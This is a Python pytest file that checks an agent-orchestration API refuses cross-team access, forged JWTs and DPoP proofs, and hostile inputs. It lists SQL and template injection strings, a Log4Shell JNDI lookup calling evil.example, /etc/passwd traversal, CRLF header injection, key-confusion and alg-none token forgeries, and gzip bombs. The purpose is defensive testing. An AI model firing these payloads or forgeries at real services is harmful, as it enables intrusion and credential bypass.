"""What somebody with an agent's key, tokens and lease may try at the API, and what strangers may: each is refused."""

from __future__ import annotations

import gzip
import hashlib
import json
import secrets
from base64 import urlsafe_b64encode
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import hashes, hmac
from joserfc import jws, jwt
from joserfc.jwk import ECKey

from leasehold_api import clock
from leasehold_api.storage import tables
from tests.support.agent_key import AgentKey, unsigned_jwt
from tests.support.api_server import ISSUER, JWT_BEARER, Api, EnrolledAgent
from tests.support.world import program

FORM = "application/x-www-form-urlencoded"
RENEWALS = "/v1/agent/renewals"
CONNECTION = {"conn_type": "postgres", "password": "not-for-thieves"}
NAMES = [
    "'; DROP TABLE agents; --",
    '" OR 1=1 --',
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example/x}",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "a\x00b",
    "a\r\nSet-Cookie: x=y",
    "аdmin",
    "ａｄｍｉｎ",
    "a\u202egnp.exe",
    "\ud7ff\U0010ffff",
    "x" * 5000,
    "a" * 40 + "!",
    "-" * 2000,
]
"""SQL, templates, paths, line ends, look-alikes, and what makes a careless pattern backtrack."""


async def take(api: Api, agent: EnrolledAgent, *, team: str = "default", **entry: Any) -> tuple[str, str]:
    """Deploy a task and let the agent take its lease; return the attempt and the task token."""
    manifest = {"dag": f"of-{agent.site}", "tasks": [program("a", **entry)]}
    deployed = await api.as_person("POST", f"/v1/teams/{team}/dags", json={"manifest": manifest})
    assert deployed.status_code == 201, deployed.text
    await api.as_person("POST", f"/v1/teams/{team}/dags/of-{agent.site}/runs", json={})
    taken = await agent.call("POST", "/v1/agent/leases", json={"free_slots": 1, "wait_s": 0})
    assert taken.status_code == 200, taken.text
    (lease,) = taken.json()["leases"]
    return str(lease["attempt"]), str(lease["task_token"])


# ── other people's things, with a right credential ──


async def test_a_task_of_another_team_reads_nothing_of_the_same_name(api: Api, north: EnrolledAgent) -> None:
    await api.as_person("PUT", "/v1/teams/default/connections/plant_db", json={**CONNECTION, "sites": ["north"]})
    await api.make_team("rivals")
    await api.make_site("north", team="rivals")
    rival = await api.enrol("north", team="rivals", name="north-1")
    token = await api.lease(rival, instance="ti_rival", needs={"connections": ["plant_db"]})

    answer = await rival.call("GET", "/v1/task/connections/plant_db", token=token)

    assert answer.status_code in {403, 404}
    assert "not-for-thieves" not in answer.text


@pytest.mark.parametrize("team", ["default", "rivals"])
async def test_an_agent_with_a_lease_of_its_own_writes_to_no_other(api: Api, north: EnrolledAgent, team: str) -> None:
    held, _ = await take(api, north)
    if team != "default":
        await api.make_team(team)
    await api.make_site("south", team=team)
    thief = await api.enrol("south", team=team, name="south-1")
    await take(api, thief, team=team)
    digest = "0" * 64
    outcome = {"attempt": held, "ending": {"kind": "success", "ended_at": "2026-01-31T12:00:00Z"}}

    answers = [
        await thief.call("PATCH", f"/v1/attempts/{held}/log", headers={"Upload-Offset": "0"}, content=b"x"),
        await thief.call("POST", f"/v1/attempts/{held}/metrics", json={"points": []}),
        await thief.call("PUT", f"/v1/attempts/{held}/xcoms/return_value", json={"value": 1}),
        await thief.call("POST", f"/v1/attempts/{held}/uploads", json={"sha256": digest, "size": 1}),
        await thief.call("PUT", f"/v1/attempts/{held}/uploads/{digest}", content=b"x"),
        await thief.call("GET", f"/v1/bundles/{digest}"),
    ]
    ended = await thief.call("POST", "/v1/agent/outcomes", json={"outcomes": [outcome]})
    renewed = await thief.call("POST", RENEWALS, json={"leases": [{"attempt": held, "needs_token": True}]})

    assert [answer.status_code for answer in answers] == [404, 404, 404, 404, 404, 403]
    assert ended.json()["outcomes"][0]["verdict"] == "refused"
    assert renewed.json()["leases"][0].get("task_token") is None
    state = await api.read(
        lambda connection: connection.execute(
            tables.task_instances.select().where(tables.task_instances.c.id == held.partition(".")[0])
        ).one()
    )
    assert (state.state, state.agent_id, state.epoch) == ("running", north.id, 1)


@pytest.mark.parametrize("kind", ["access", "task"])
async def test_an_agents_tokens_neither_deploy_nor_start_nor_administer(
    api: Api, north: EnrolledAgent, kind: str
) -> None:
    token = north.token if kind == "access" else await api.lease(north)
    t = "/v1/teams/default"
    tried = [
        ("POST", f"{t}/dags"),
        ("POST", f"{t}/dags/sensors/runs"),
        ("PUT", f"{t}/connections/plant_db"),
        ("PUT", f"{t}/bundles/{'0' * 64}"),
        ("POST", f"{t}/api-tokens"),
        ("POST", f"{t}/sites/north/enrolment-tokens"),
        ("POST", "/v1/teams"),
        ("GET", "/v1/audit"),
    ]

    by_proof = [(await north.call(method, path, token=token, json={})).status_code for method, path in tried]
    as_bearer = [(await api.as_person(method, path, token=token)).status_code for method, path in tried]

    assert set(by_proof + as_bearer) == {401}


async def test_a_task_token_is_worth_nothing_once_its_attempt_has_ended(api: Api, north: EnrolledAgent) -> None:
    await api.as_person("PUT", "/v1/teams/default/connections/plant_db", json={**CONNECTION, "sites": ["north"]})
    attempt, token = await take(api, north, needs={"connections": ["plant_db"]}, variables=["limit"])
    before = await north.call("GET", "/v1/task/connections/plant_db", token=token)
    ending = {"attempt": attempt, "ending": {"kind": "success", "ended_at": "2026-01-31T12:00:00Z"}}
    ended = await north.call("POST", "/v1/agent/outcomes", json={"outcomes": [ending]})

    after = [
        await north.call("GET", "/v1/task/connections/plant_db", token=token),
        await north.call("PUT", "/v1/task/variables/limit", token=token, json={"value": 1}),
        await north.call("POST", "/v1/task/id-token", token=token, json={"audience": "https://evil.example"}),
    ]

    assert before.status_code == 200
    assert ended.json()["outcomes"][0]["verdict"] == "recorded"
    assert {answer.json()["code"] for answer in after} == {"lease_lost"}


# ── headers that name a key or an algorithm ──


def _confused(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """Sign with HMAC, the public key being the secret."""
    text = unsigned_jwt(header, claims).rpartition(".")[0]
    signer = hmac.HMAC(secret, hashes.SHA256())
    signer.update(text.encode())
    return f"{text}.{urlsafe_b64encode(signer.finalize()).rstrip(b'=').decode()}"


def _forgeries(header: dict[str, Any], claims: dict[str, Any], public: ECKey) -> dict[str, str]:
    """Return what every JWT library was once fooled by."""
    own = ECKey.generate_key("P-256")
    jwk = dict(own.as_dict(private=False))

    def signed(**more: Any) -> str:
        return jwt.encode({**header, "alg": "ES256", **more}, claims, own, algorithms=["ES256"], default_type=None)

    return {
        "none": unsigned_jwt({**header, "alg": "none"}, claims),
        "None": unsigned_jwt({**header, "alg": "None"}, claims),
        "no alg": unsigned_jwt({name: value for name, value in header.items() if name != "alg"}, claims),
        "empty signature": unsigned_jwt({**header, "alg": "ES256"}, claims),
        "null signature": unsigned_jwt({**header, "alg": "ES256"}, claims, bytes(64)),
        "HS256, PEM": _confused({**header, "alg": "HS256"}, claims, public.as_pem(private=False)),
        "HS256, DER": _confused({**header, "alg": "HS256"}, claims, public.as_der(private=False)),
        "own jwk": signed(jwk=jwk),
        "jku": signed(jku="https://evil.example/jwks.json"),
        "x5u": signed(x5u="https://evil.example/cert.pem"),
        "x5c": signed(x5c=["MIIB"]),
        "kid of a path": signed(kid="../../dev/null"),
        "kid of SQL": signed(kid="x' UNION SELECT 'a"),
        "kid of own": signed(kid=own.thumbprint()),
        "critical": unsigned_jwt({**header, "alg": "ES256", "crit": ["exp"], "exp": 1}, claims, bytes(64)),
        "b64 false": unsigned_jwt({**header, "alg": "ES256", "crit": ["b64"], "b64": False}, claims, bytes(64)),
    }


async def test_no_trick_with_a_headers_key_or_algorithm_makes_an_access_token(api: Api, north: EnrolledAgent) -> None:
    keys = api.house.signing_keys
    (public,) = (ECKey.import_key(key) for key in keys.jwks()["keys"])
    header = {"typ": "at+jwt", "kid": str(public.kid)}
    forged = _forgeries(header, keys.verified(north.token, typ="at+jwt"), public)

    answers = {name: await north.call("POST", RENEWALS, token=token, json={}) for name, token in forged.items()}

    assert {name: answer.status_code for name, answer in answers.items()} == dict.fromkeys(forged, 401)


async def test_no_trick_with_a_headers_key_or_algorithm_makes_an_assertion(api: Api, north: EnrolledAgent) -> None:
    now = int(clock.now())
    claims = {"iss": north.id, "sub": north.id, "aud": ISSUER, "iat": now, "exp": now + 60, "gen": 99}
    header = {"typ": "client-authentication+jwt", "kid": north.key.jkt}
    forged = _forgeries(header, {**claims, "jti": "x"}, north.key.key)

    answers = {name: await api.ask_token(north.key, north.id, assertion=text) for name, text in forged.items()}

    assert {name: answer.status_code for name, answer in answers.items() if answer.status_code not in {400, 401}} == {}
    assert (await north.sign_in()) is not None  # and nobody was locked for it


async def test_no_trick_with_a_headers_key_or_algorithm_makes_a_proof(api: Api, north: EnrolledAgent) -> None:
    claims = {"htm": "POST", "htu": ISSUER + RENEWALS, "iat": int(clock.now()), "jti": "x"}
    claims["ath"] = urlsafe_b64encode(hashlib.sha256(north.token.encode()).digest()).rstrip(b"=").decode()
    forged = _forgeries({"typ": "dpop+jwt", "jwk": north.key.public_jwk}, claims, north.key.key)

    answers = {
        name: await north.call("POST", RENEWALS, json={}, headers={"DPoP": proof}) for name, proof in forged.items()
    }

    assert {name: answer.json().get("code") for name, answer in answers.items()} == dict.fromkeys(
        forged, "dpop_invalid"
    )


@pytest.mark.parametrize(
    "htu",
    [
        "http://evil@127.0.0.1:8420" + RENEWALS,
        "http://127.0.0.1:8420@evil.example" + RENEWALS,
        "http://127.0.0.1.:8420" + RENEWALS,
        "http://127.0.0.1:8421" + RENEWALS,
        "http://127.0.0.1" + RENEWALS,
        "https://127.0.0.1:8420" + RENEWALS,
        "http://127.0.0.1:8420//v1/agent/renewals",
        "http://127.0.0.1:8420/v1/agent/../agent/renewals",
        "http://127.0.0.1:8420/v1/agent/renewals/",
        "http://127.0.0.1:8420/v1/agent/Renewals",
        "http://127.0.0.1:8420\\@evil.example" + RENEWALS,
        "http://127.0.0.1:8420/v1/agent/renewals\n",
        "http://127.0.0.1:8420/v1/agent/renewals ",
        "http://127.0.0.1:8420%2fv1/agent/renewals",
        RENEWALS,
        "//127.0.0.1:8420" + RENEWALS,
        ["http://127.0.0.1:8420" + RENEWALS],
    ],
)
async def test_a_proof_for_an_address_that_only_looks_like_ours_is_refused(north: EnrolledAgent, htu: Any) -> None:
    proof = north.key.proof("POST", "", token=north.token, htu=htu)

    answer = await north.call("POST", RENEWALS, json={}, headers={"DPoP": proof})

    assert answer.status_code == 401, answer.text
    assert answer.json()["code"] == "dpop_invalid"


@pytest.mark.parametrize(
    "audience",
    ["https://evil.example", f"{ISSUER}/", f"{ISSUER}/oauth/token", [ISSUER, "https://evil.example"], None],
)
async def test_an_assertion_for_another_audience_is_refused(api: Api, north: EnrolledAgent, audience: Any) -> None:
    answer = await api.ask_token(north.key, north.id, assertion=north.key.assertion(north.id, ISSUER, aud=audience))

    assert answer.status_code in {400, 401}
    assert answer.json()["error"] == "invalid_client"


# ── the same thing said twice ──


async def test_a_key_that_is_twice_in_a_proof_is_refused(api: Api, north: EnrolledAgent) -> None:
    right = {"htm": "POST", "htu": ISSUER + RENEWALS, "iat": int(clock.now()), "jti": secrets.token_urlsafe(8)}
    right["ath"] = urlsafe_b64encode(hashlib.sha256(north.token.encode()).digest()).rstrip(b"=").decode()
    body = json.dumps(right)
    twice = f'{{"htu": "https://evil.example/", {body[1:]}'

    answer = await north.call("POST", RENEWALS, json={}, headers={"DPoP": _signed_text(north.key, twice)})

    assert answer.json()["code"] == "dpop_invalid", answer.text


def _signed_text(key: AgentKey, claims: str) -> str:
    header = {"typ": "dpop+jwt", "alg": "ES256", "jwk": key.public_jwk}
    return jws.serialize_compact(header, claims, key.key, algorithms=["ES256"])


async def test_a_credential_shown_twice_is_refused(api: Api, north: EnrolledAgent) -> None:
    token = await api.make_api_token("viewer")
    both = [("Authorization", f"Bearer {token}"), ("Authorization", f"Bearer {api.admin_token}")]

    first = await api.client.get("/v1/audit", headers=both)
    second = await api.client.get("/v1/audit", headers=both[::-1])

    assert (first.status_code, second.status_code) == (401, 401)


async def test_the_last_of_two_equal_keys_in_a_body_is_checked_like_any(api: Api) -> None:
    body = b'{"name": "good", "name": "../bad"}'

    answer = await api.as_person("POST", "/v1/teams", content=body)

    assert answer.status_code == 422


# ── names, sizes, bombs ──


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
async def test_a_hostile_name_is_refused_or_kept_as_it_is_and_nothing_else_happens(
    api: Api, north: EnrolledAgent, name: str
) -> None:
    t = "/v1/teams/default"
    bodies: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/v1/teams", {"name": name}),
        ("PUT", f"{t}/sites/south", {"description": name, "labels": {name: name}}),
        ("POST", f"{t}/api-tokens", {"name": name, "role": "viewer"}),
        ("PUT", f"{t}/connections/c", {"conn_type": name, "host": name, "extra": {name: name}, "sites": [name]}),
        ("PUT", f"{t}/variables/v", {"value": {name: name}}),
        ("POST", f"{t}/agents/{north.id}/unlock", {"reason": name}),
        ("POST", f"{t}/dags", {"manifest": {"dag": name, "tasks": []}}),
    ]
    answers = [await api.as_person(method, path, json=body) for method, path, body in bodies]
    answers.append(await api.ask_enrolment(AgentKey(), await api.make_enrolment_token("north"), client_name=name))
    for kind in ("sites", "connections", "variables", "dags", "runs", "agents"):
        path = f"{t}/{kind}/" + "".join(f"%{byte:02x}" for byte in name.encode())
        answers.append(await api.as_person("GET", path))

    assert [answer.status_code for answer in answers if answer.status_code >= 500] == []
    assert not any("set-cookie" in answer.headers for answer in answers)
    assert (await north.call("POST", RENEWALS, json={})).status_code == 200
    assert "49" not in {answer.text for answer in answers}


@pytest.mark.parametrize(
    "attempt",
    ["../../etc/passwd.1", "..%2f..%2fx.1", "ti_1.1%00", "ti_1.-1", "ti_1.1e9", "ti_1", ".1", "ti_1.１"],
)
async def test_an_attempt_that_would_be_another_file_is_not_found(api: Api, north: EnrolledAgent, attempt: str) -> None:
    await api.lease(north)
    path = f"/v1/attempts/{attempt}/log"
    proof_path = httpx.URL(ISSUER + path).path
    proof = north.key.proof("PATCH", ISSUER + proof_path, token=north.token)

    written = await north.call("PATCH", path, headers={"Upload-Offset": "0", "DPoP": proof}, content=b"x")
    read = await api.as_person("GET", f"/v1/teams/default/attempts/{attempt}/log")

    assert written.status_code in {401, 404, 422}, written.text
    assert read.status_code in {404, 422}, read.text


async def test_a_bomb_on_the_log_and_upload_routes_is_not_unpacked(api: Api, north: EnrolledAgent) -> None:
    attempt, _ = await take(api, north)
    bomb = gzip.compress(bytes(50_000_000))
    digest = hashlib.sha256(bytes(50_000_000)).hexdigest()
    zipped = {"Content-Encoding": "gzip"}

    begin = {"Upload-Offset": "0", **zipped}
    log = await north.call("PATCH", f"/v1/attempts/{attempt}/log", headers=begin, content=bomb)
    blob = await north.call("PUT", f"/v1/attempts/{attempt}/uploads/{digest}", headers=zipped, content=bomb)
    twice = await north.call("POST", RENEWALS, headers={"Content-Encoding": "gzip, gzip"}, content=gzip.compress(bomb))

    assert log.status_code == 413
    assert blob.status_code in {409, 422}, blob.text  # stored as it came it has another hash
    assert twice.status_code in {400, 413, 422}


@pytest.mark.parametrize("size", [5_000, 60_000])
async def test_an_oversize_header_is_refused(api: Api, north: EnrolledAgent, size: int) -> None:
    proof = await north.call("POST", RENEWALS, json={}, headers={"DPoP": "a" * size})
    token = await north.call("POST", RENEWALS, json={}, token="a" * size)
    person = await api.as_person("GET", "/v1/whoami", token="lht_" + "a" * size)

    assert [answer.status_code for answer in (proof, token, person)] == [401, 401, 401]


async def test_a_form_says_each_thing_once_and_is_bounded(api: Api, north: EnrolledAgent) -> None:
    fields = [("grant_type", "client_credentials"), ("client_assertion_type", JWT_BEARER)]
    fields.append(("client_assertion", north.key.assertion(north.id, ISSUER)))
    forms = {
        "twice": [*fields, ("client_assertion", north.key.assertion(north.id, ISSUER))],
        "many": [*fields, *((f"f{number}", "x") for number in range(5000))],
        "large": [*fields, ("resource", "x" * 100_000)],
        "NUL": [*fields, ("resource", "\x00")],
        "template": [*fields, ("scope", "{{7*7}}' OR 1=1 --")],
    }
    answers = {}
    for name, form in forms.items():
        headers = {"DPoP": north.key.proof("POST", f"{ISSUER}/oauth/token"), "Content-Type": FORM}
        content = str(httpx.QueryParams(form)).encode()
        answers[name] = await api.client.post("/oauth/token", headers=headers, content=content)

    assert [name for name, answer in answers.items() if answer.status_code >= 500] == []
    assert [answers[name].status_code for name in ("twice", "many", "large")] == [400, 400, 413]
